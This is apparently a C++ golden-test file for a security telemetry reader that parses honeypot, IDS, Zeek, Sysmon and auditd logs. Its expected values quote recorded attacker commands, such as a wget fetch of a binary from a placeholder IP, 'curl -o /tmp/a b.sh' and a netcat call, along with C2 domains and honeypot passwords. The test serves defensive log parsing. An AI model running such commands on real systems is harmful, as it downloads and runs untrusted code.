// Golden tests: fixtures written from each format's documentation
// (tests/fixtures/telemetry/) against the expected events beside them
// (*.expected.ndjson, checked by hand; NCERT_UPDATE_GOLDEN=1 rewrites them
// for review), explicit field checks, and the real OTRF Security-Datasets
// Windows events in ../shared/data.
#include <gtest/gtest.h>

#include <cstdlib>
#include <fstream>
#include <sstream>

#include "telemetry/event_json.h"
#include "telemetry/reader.h"

namespace ncert::telemetry {
namespace {

const std::string kDir = "tests/fixtures/telemetry/";

struct ReadAll {
  std::vector<std::string> json;
  std::vector<Event> events;  // views valid only while `batches` lives
  std::vector<std::unique_ptr<EventBatch>> batches;
  ReadStats stats;
  std::vector<ReadIssue> issues;
};

ReadAll Read(std::vector<std::string> files, ReaderOptions opt = {}) {
  ReadAll r;
  auto env = NewPosixEnv();
  auto reader = OpenReader(*env, files, opt);
  EXPECT_TRUE(reader.ok()) << reader.status().ToString();
  if (!reader.ok()) return r;
  while (true) {
    auto b = std::make_unique<EventBatch>();
    auto more = (*reader)->Next(b.get());
    EXPECT_TRUE(more.ok()) << more.status().ToString();
    if (!more.ok() || !*more) break;
    for (const Event& e : b->events) {
      std::string line;
      AppendEventJson(e, (*reader)->files()[e.raw.file], &line);
      r.json.push_back(line);
      r.events.push_back(e);
    }
    r.batches.push_back(std::move(b));
  }
  r.stats = (*reader)->stats();
  r.issues = (*reader)->issues();
  return r;
}

std::string Issues(const ReadAll& r) {
  std::string s;
  for (const ReadIssue& i : r.issues) s += i.ToString() + "\n";
  return s;
}

void ExpectGolden(const std::string& name, const ReadAll& r) {
  std::string path = kDir + name + ".expected.ndjson";
  std::string got;
  for (const std::string& l : r.json) got += l + "\n";
  if (std::getenv("NCERT_UPDATE_GOLDEN") != nullptr) {
    std::ofstream(path) << got;
  }
  std::ifstream in(path);
  std::stringstream want;
  want << in.rdbuf();
  EXPECT_EQ(got, want.str()) << "golden " << path;
}

TEST(GoldenTest, Cowrie) {
  ReadAll r = Read({kDir + "cowrie.json"});
  EXPECT_EQ(r.stats.events, 15u) << Issues(r);
  EXPECT_EQ(r.stats.formats.at("cowrie"), 1u);
  EXPECT_TRUE(r.issues.empty()) << Issues(r);
  ASSERT_EQ(r.events.size(), 15u);
  const Event& c = r.events[0];
  EXPECT_EQ(c.kind, "cowrie.session.connect");
  EXPECT_EQ(c.source, "cowrie");
  EXPECT_EQ(c.src_ip.ToString(), "198.51.100.7");
  EXPECT_EQ(c.src_port, 52104);
  EXPECT_EQ(c.dst_ip.ToString(), "192.0.2.10");
  EXPECT_EQ(c.dst_port, 2222);
  EXPECT_EQ(c.protocol, "ssh");
  EXPECT_EQ(c.session, "a1b2c3d4e5f6");
  EXPECT_EQ(c.sensor, "hp-tokyo-1");
  EXPECT_EQ(FormatTimestamp(*c.time, 6), "2024-03-01T10:00:00.123456Z");
  EXPECT_EQ(r.events[2].hassh, "ec7378c1a92f5a8dde7e8b7a1ddf33d1");
  EXPECT_EQ(r.events[3].user, "root");
  EXPECT_EQ(r.events[3].password, "123456");
  EXPECT_EQ(r.events[5].command_line,
            "cd /tmp; wget http://203.0.113.5/bins/x86 -O x86");
  EXPECT_EQ(r.events[7].url, "http://203.0.113.5/bins/x86");
  EXPECT_EQ(r.events[7].sha256,
            "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08");
  EXPECT_EQ(r.events[9].file_name, "a.sh");
  EXPECT_EQ(r.events[10].dst_ip.ToString(), "203.0.113.80");
  EXPECT_EQ(r.events[10].dst_port, 443);
  // Unknown event ids are kept and counted; ::ffff: becomes IPv4.
  EXPECT_EQ(r.events[14].kind, "cowrie.telnet.mystery");
  EXPECT_EQ(r.events[14].src_ip.ToString(), "198.51.100.8");
  EXPECT_EQ(r.stats.unknown_kinds.at("cowrie.telnet.mystery"), 1u);
  EXPECT_EQ(r.events[14].raw.line, 15u);
  ExpectGolden("cowrie", r);
}

TEST(GoldenTest, Dionaea) {
  ReadAll r = Read({kDir + "dionaea.json"});
  ASSERT_EQ(r.events.size(), 4u) << Issues(r);
  EXPECT_TRUE(r.issues.empty()) << Issues(r);
  EXPECT_EQ(r.events[0].kind, "dionaea.accept");
  EXPECT_EQ(r.events[0].protocol, "tcp");
  EXPECT_EQ(r.events[0].dst_port, 445);
  EXPECT_EQ(FormatTimestamp(*r.events[0].time, 6),
            "2024-03-01T11:00:00.250000Z");
  EXPECT_EQ(r.events[1].user, "anonymous");
  EXPECT_EQ(r.events[1].password, "anonymous@");
  EXPECT_EQ(r.events[1].command_line, "USER");
  // flat_data credentials: lists; the first value is taken.
  EXPECT_EQ(r.events[2].user, "sa");
  EXPECT_EQ(r.events[2].password, "sa123");  // the first non-empty one
  EXPECT_EQ(r.events[2].src_ip.ToString(), "2001:db8::45");
  // The older connection.local/remote layout and downloads.
  EXPECT_EQ(r.events[3].src_ip.ToString(), "198.51.100.46");
  EXPECT_EQ(r.events[3].dst_port, 80);
  EXPECT_EQ(r.events[3].md5, "d41d8cd98f00b204e9800998ecf8427e");
  EXPECT_EQ(r.events[3].url, "http://198.51.100.46/sample.exe");
  ExpectGolden("dionaea", r);
}

TEST(GoldenTest, SuricataEve) {
  ReadAll r = Read({kDir + "eve.json"});
  ASSERT_EQ(r.events.size(), 12u) << Issues(r);
  // The docs' own example anonymises dest_ip as "x.x.250.50": dropped.
  EXPECT_EQ(r.stats.by_rule.at("bad-ip"), 1u);
  EXPECT_EQ(r.stats.dropped_fields, 1u);
  EXPECT_FALSE(r.events[0].dst_ip.present());
  EXPECT_EQ(r.events[0].protocol, "tcp");
  EXPECT_EQ(FormatTimestamp(*r.events[0].time, 6),
            "2009-11-24T20:27:09.534255Z");
  EXPECT_EQ(r.events[0].session, "1391847382038153");
  EXPECT_EQ(r.events[1].sensor, "ids-osaka");
  EXPECT_EQ(r.events[2].domain, "evil.example.com");
  EXPECT_EQ(r.events[3].domain, "c2.example.org");
  EXPECT_EQ(r.events[4].url,
            "http://www.example.net/download/payload.bin?id=1");
  EXPECT_EQ(r.events[4].domain, "www.example.net");
  EXPECT_EQ(r.events[4].user_agent, "Wget/1.21");
  EXPECT_EQ(r.events[5].ja3, "e7d705a3286e19ea42f587b344ee6865");
  EXPECT_EQ(r.events[5].ja3s, "623de93db17d313345d7ea481e7443cf");
  EXPECT_EQ(r.events[5].domain, "bad.example.com");
  EXPECT_EQ(r.events[6].hassh, "ec7378c1a92f5a8dde7e8b7a1ddf33d1");
  EXPECT_EQ(r.events[7].sha256,
            "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f");
  EXPECT_EQ(r.events[7].md5, "44d88612fea8a8f36de82e1278abb02f");
  EXPECT_EQ(r.events[7].file_name, "/download/payload.bin");
  EXPECT_EQ(r.events[8].src_ip.ToString(), "2001:db8::1");
  EXPECT_EQ(r.events[9].email, "\"Billing\" <phish@example.com>");
  EXPECT_EQ(r.stats.unknown_kinds.at("newthing"), 1u);
  ExpectGolden("eve", r);
}

TEST(GoldenTest, Zeek) {
  ReadAll r = Read({kDir + "zeek.json", kDir + "http.log"});
  ASSERT_EQ(r.events.size(), 8u) << Issues(r);
  EXPECT_TRUE(r.issues.empty()) << Issues(r);
  EXPECT_EQ(r.events[0].source, "zeek.conn");
  EXPECT_EQ(r.events[0].kind, "conn");
  EXPECT_EQ(r.events[0].session, "CMdzit1AMNsmfAIiQc");
  EXPECT_EQ(FormatTimestamp(*r.events[0].time, 6),
            "2020-06-05T14:39:59.305988Z");
  EXPECT_EQ(r.events[1].domain, "testmyids.com");
  EXPECT_EQ(r.events[2].url, "http://testmyids.com/");
  EXPECT_EQ(r.events[3].ja3, "839bbe3ed07fed922ded5aaf714d6842");
  EXPECT_EQ(r.events[3].domain, "www.taosecurity.com");
  EXPECT_EQ(r.events[4].md5, "2e3a2a7e8b1c1ee7a9da0c53e0d3b3d3");
  EXPECT_EQ(r.events[5].src_ip.ToString(), "31.3.245.133");
  EXPECT_EQ(r.events[5].file_name, "setup.exe");
  EXPECT_EQ(r.stats.unknown_kinds.at("ja3er"), 1u);
  // No _path: the log is named by the file.
  EXPECT_EQ(r.events[7].source, "zeek.http");
  EXPECT_EQ(r.events[7].url, "http://testmyids.com/a%20b");
  EXPECT_EQ(r.events[7].raw.file, 1u);
  ExpectGolden("zeek", r);
}

// Zeek's default TSV logs, written from Zeek's documentation of the ASCII
// writer (header directives, \xNN escapes, "-" unset, "(empty)" empty, sets
// split on #set_separator), describe the same connections as zeek.json.
const std::vector<std::string> kZeekTsv = {
    kDir + "zeek-tsv/conn.log", kDir + "zeek-tsv/dns.log",
    kDir + "zeek-tsv/http.log", kDir + "zeek-tsv/ssl.log",
    kDir + "zeek-tsv/files.log"};

TEST(GoldenTest, ZeekTsv) {
  ReadAll r = Read(kZeekTsv);
  ASSERT_EQ(r.events.size(), 8u) << Issues(r);
  EXPECT_TRUE(r.issues.empty()) << Issues(r);
  EXPECT_EQ(r.stats.formats.at("zeek"), 5u);
  EXPECT_EQ(r.stats.skipped_lines, 0u);
  EXPECT_TRUE(r.stats.unknown_kinds.empty());
  const Event& c = r.events[0];
  EXPECT_EQ(c.source, "zeek.conn");
  EXPECT_EQ(c.kind, "conn");
  EXPECT_EQ(FormatTimestamp(*c.time, 6), "2020-06-05T14:39:59.305988Z");
  EXPECT_EQ(c.raw.line, 9u);  // after the 8 header lines
  // IPv6, unset values absent, a set of tunnel parents not mapped.
  const Event& v6 = r.events[1];
  EXPECT_EQ(v6.src_ip.ToString(), "2001:db8::1");
  EXPECT_EQ(v6.dst_ip.ToString(), "2001:db8::53");
  EXPECT_EQ(v6.dst_port, 443);
  EXPECT_EQ(v6.protocol, "tcp");
  EXPECT_EQ(r.events[2].domain, "testmyids.com");
  EXPECT_EQ(r.events[3].url, "http://testmyids.com/");
  // \x09 (the separator itself), \x5c (a backslash), escaped UTF-8 bytes.
  const Event& esc = r.events[4];
  EXPECT_EQ(esc.url, "http://www.example.jp/a\tb\\c");
  EXPECT_EQ(esc.user_agent, "Mozilla/5.0 (\xe6\x97\xa5\xe6\x9c\xac)");
  EXPECT_EQ(esc.src_ip.ToString(), "2001:db8::10");
  EXPECT_EQ(r.events[5].ja3, "839bbe3ed07fed922ded5aaf714d6842");
  EXPECT_EQ(r.events[5].domain, "www.taosecurity.com");
  // files.log: two logs concatenated; the second header's columns apply.
  EXPECT_EQ(r.events[6].md5, "2e3a2a7e8b1c1ee7a9da0c53e0d3b3d3");
  EXPECT_EQ(r.events[6].src_port, 46378);
  EXPECT_EQ(r.events[7].src_ip.ToString(), "31.3.245.133");  // set[addr]
  EXPECT_EQ(r.events[7].dst_ip.ToString(), "192.168.4.76");  // first element
  EXPECT_EQ(r.events[7].file_name, "setup.exe");
  EXPECT_EQ(r.events[7].raw.line, 19u);  // the second header: 11-18
  ExpectGolden("zeek_tsv", r);
}

// The same record gives the same Event whichever form Zeek wrote it in.
TEST(GoldenTest, ZeekTsvEqualsZeekJson) {
  ReadAll json = Read({kDir + "zeek.json"});
  ReadAll tsv = Read(kZeekTsv);
  ASSERT_EQ(json.events.size(), 7u) << Issues(json);
  ASSERT_EQ(tsv.events.size(), 8u) << Issues(tsv);
  auto text = [](Event e) {
    e.raw = {};
    std::string s;
    AppendEventJson(e, "", &s);
    return s;
  };
  // json line -> tsv event: conn, dns, http, ssl, files (both layouts).
  const std::pair<size_t, size_t> kSame[] = {{0, 0}, {1, 2}, {2, 3},
                                             {3, 5}, {4, 6}, {5, 7}};
  for (const auto& [j, t] : kSame) {
    EXPECT_EQ(text(json.events[j]), text(tsv.events[t]))
        << "zeek.json line " << j + 1;
  }
}

TEST(GoldenTest, EcsWinlogbeatSysmon) {
  ReadAll r = Read({kDir + "ecs.json"});
  ASSERT_EQ(r.events.size(), 7u) << Issues(r);
  EXPECT_TRUE(r.issues.empty()) << Issues(r);
  EXPECT_EQ(r.events[0].kind, "connection_attempted");
  EXPECT_EQ(r.events[0].source, "ecs");
  EXPECT_EQ(r.events[0].url, "https://api.example.com/v1/beacon");
  EXPECT_EQ(r.events[0].dst_port, 8443);
  EXPECT_EQ(r.events[0].ja3, "e7d705a3286e19ea42f587b344ee6865");
  EXPECT_EQ(r.events[0].sensor, "edge-fw-1");
  EXPECT_EQ(r.events[1].domain, "flat.example.com");  // dotted keys
  EXPECT_EQ(r.events[2].kind, "sysmon.1");
  EXPECT_EQ(r.events[2].process,
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
  EXPECT_EQ(r.events[2].sha256,
            "275A021BBFB6489E54D471899F7DB9D1663FC695EC2FE2A2C4538AABF651FD0F");
  EXPECT_EQ(r.events[2].user, "CORP\\tanaka");
  EXPECT_EQ(r.events[3].kind, "sysmon.3");
  EXPECT_EQ(r.events[3].dst_ip.ToString(), "203.0.113.66");
  EXPECT_EQ(r.events[3].dst_port, 4444);
  EXPECT_EQ(r.events[4].file_name,
            "C:\\Users\\tanaka\\AppData\\Roaming\\run.bat");
  EXPECT_EQ(r.events[5].domain, "c2.example.org");
  EXPECT_EQ(r.events[6].sha256,
            "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f");
  ExpectGolden("ecs", r);
}

TEST(GoldenTest, Auditd) {
  ReadAll r = Read({kDir + "audit.log"});
  ASSERT_EQ(r.events.size(), 4u) << Issues(r);
  EXPECT_EQ(r.stats.by_rule.at("auditd-format"), 1u);
  const Event& x = r.events[0];
  EXPECT_EQ(x.kind, "EXECVE");
  EXPECT_EQ(x.command_line, "curl -o /tmp/a b.sh");  // a2 hex-decoded
  EXPECT_EQ(x.process, "/usr/bin/curl");
  EXPECT_EQ(x.file_name, "/usr/bin/curl");
  EXPECT_EQ(x.session, "3");
  EXPECT_EQ(FormatTimestamp(*x.time), "2024-03-01T11:00:00.123Z");
  EXPECT_EQ(x.raw.line, 1u);
  EXPECT_EQ(r.events[1].kind, "USER_LOGIN");
  EXPECT_EQ(r.events[1].user, "root");
  EXPECT_EQ(r.events[1].src_ip.ToString(), "198.51.100.7");
  EXPECT_EQ(r.events[2].kind, "SYSCALL");
  EXPECT_EQ(r.events[2].dst_ip.ToString(), "203.0.113.10");
  EXPECT_EQ(r.events[2].dst_port, 4444);
  EXPECT_EQ(r.events[2].command_line, "nc 203.0.113.10 445");  // proctitle
  EXPECT_EQ(r.events[3].host, "web-1");
  EXPECT_EQ(r.events[3].command_line, "id");
  ExpectGolden("audit", r);
}

TEST(GoldenTest, CsvWithFieldMap) {
  auto env = NewPosixEnv();
  auto map = LoadFieldMap(*env, kDir + "proxy_map.toml");
  ASSERT_TRUE(map.ok()) << map.status().ToString();
  ReaderOptions opt;
  opt.field_map = &*map;
  ReadAll r = Read({kDir + "proxy.csv"}, opt);
  ASSERT_EQ(r.events.size(), 4u) << Issues(r);
  EXPECT_EQ(r.events[0].kind, "proxy.request");
  EXPECT_EQ(r.events[0].source, "proxy");
  EXPECT_EQ(r.events[0].user_agent,
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64)");
  EXPECT_EQ(r.events[1].url, "http://api.example.com/q?a=1,2");
  EXPECT_EQ(r.events[1].user_agent, "curl \"quoted\" agent");
  EXPECT_EQ(r.events[2].url, "http://multi.example.com/\nline");
  EXPECT_EQ(r.events[2].raw.line, 4u);
  EXPECT_FALSE(r.events[3].src_ip.present());
  EXPECT_EQ(r.events[3].domain, "bad-ip.example.com");
  EXPECT_EQ(r.stats.by_rule.at("bad-ip"), 1u);
  EXPECT_EQ(r.stats.by_rule.at("csv-columns"), 1u);
  ASSERT_FALSE(r.issues.empty());
  EXPECT_EQ(r.issues.back().ToString(),
            kDir + "proxy.csv:7: csv-columns: 5 columns, expected 7");
  ExpectGolden("proxy", r);
}

TEST(GoldenTest, NdjsonWithFieldMap) {
  auto env = NewPosixEnv();
  auto map = LoadFieldMap(*env, kDir + "custom_map.toml");
  ASSERT_TRUE(map.ok()) << map.status().ToString();
  ReaderOptions opt;
  opt.field_map = &*map;
  opt.format = Format::kNdjson;
  ReadAll r = Read({kDir + "custom.ndjson"}, opt);
  ASSERT_EQ(r.events.size(), 2u) << Issues(r);
  EXPECT_EQ(FormatTimestamp(*r.events[0].time), "2024-03-01T14:00:00.250Z");
  EXPECT_EQ(r.events[0].dst_ip.ToString(), "203.0.113.77");
  EXPECT_EQ(r.events[0].dst_port, 8080);
  EXPECT_EQ(r.events[0].domain, "x.example.com");
  EXPECT_EQ(r.events[0].user, "bob");
  EXPECT_EQ(r.events[0].kind, "appfw.conn");
  EXPECT_FALSE(r.events[1].time);
  EXPECT_EQ(r.stats.by_rule.at("bad-time"), 1u);
}

TEST(GoldenTest, FieldMapErrors) {
  EXPECT_FALSE(ParseFieldMap("format = \"csv\"\n", "m").ok());  // no fields
  EXPECT_FALSE(ParseFieldMap("[fields]\nsrc_addr = \"a\"\n", "m").ok());
  EXPECT_FALSE(ParseFieldMap("colour = 1\n[fields]\ntime = \"t\"\n", "m").ok());
  EXPECT_FALSE(
      ParseFieldMap("delimiter = \";;\"\n[fields]\ntime = \"t\"\n", "m").ok());
  auto m = ParseFieldMap(
      "header = false\ndelimiter = \"\\t\"\n[fields]\ntime = 1\n", "m");
  ASSERT_TRUE(m.ok()) << m.status().ToString();
  EXPECT_EQ(m->delimiter, '\t');
  EXPECT_EQ(m->fields[0].second, "1");
}

// Real Windows events (OTRF Security-Datasets, flat winlogbeat/Logstash
// JSON): 5,024 events in 12 files; SOURCE.md gives the counts.
TEST(GoldenTest, SecurityDatasetsRealData) {
  const std::string dir = "../shared/data/sigma-logs/security-datasets/";
  auto env = NewPosixEnv();
  auto files = ExpandPaths(*env, {dir}, {".json"});
  ASSERT_TRUE(files.ok()) << files.status().ToString();
  ASSERT_EQ(files->size(), 12u);
  ReadAll r = Read(*files);
  EXPECT_EQ(r.stats.files, 12u);
  EXPECT_EQ(r.stats.formats.at("ecs"), 12u);
  EXPECT_EQ(r.stats.events, 5024u) << Issues(r);
  EXPECT_EQ(r.stats.skipped_lines, 0u) << Issues(r);
  size_t sysmon1 = 0, sysmon3 = 0, sysmon22 = 0, with_hash = 0, bitsadmin = 0;
  for (const Event& e : r.events) {
    EXPECT_TRUE(e.time.has_value());
    EXPECT_FALSE(e.host.empty());
    if (e.kind == "sysmon.1") {
      ++sysmon1;
      EXPECT_FALSE(e.process.empty());
      EXPECT_FALSE(e.command_line.empty());
    }
    if (e.kind == "sysmon.3") {
      ++sysmon3;
      EXPECT_TRUE(e.src_ip.present());
      EXPECT_TRUE(e.dst_ip.present());
      EXPECT_NE(e.dst_port, 0);
    }
    if (e.kind == "sysmon.22") {
      ++sysmon22;
      EXPECT_FALSE(e.domain.empty());
    }
    if (!e.sha256.empty()) ++with_hash;
    if (e.kind == "security.4688" &&
        e.command_line.find("bitsadmin.exe") != std::string_view::npos) {
      ++bitsadmin;
      EXPECT_EQ(e.process, "C:\\Windows\\System32\\bitsadmin.exe");
    }
  }
  // Counted with a Python json script over the same files.
  EXPECT_EQ(sysmon1, 26u);
  EXPECT_EQ(sysmon3, 18u);
  EXPECT_EQ(sysmon22, 9u);
  EXPECT_EQ(with_hash, 1178u);  // events whose Hashes has a SHA256
  EXPECT_EQ(bitsadmin, 1u);
}

}  // namespace
}  // namespace ncert::telemetry
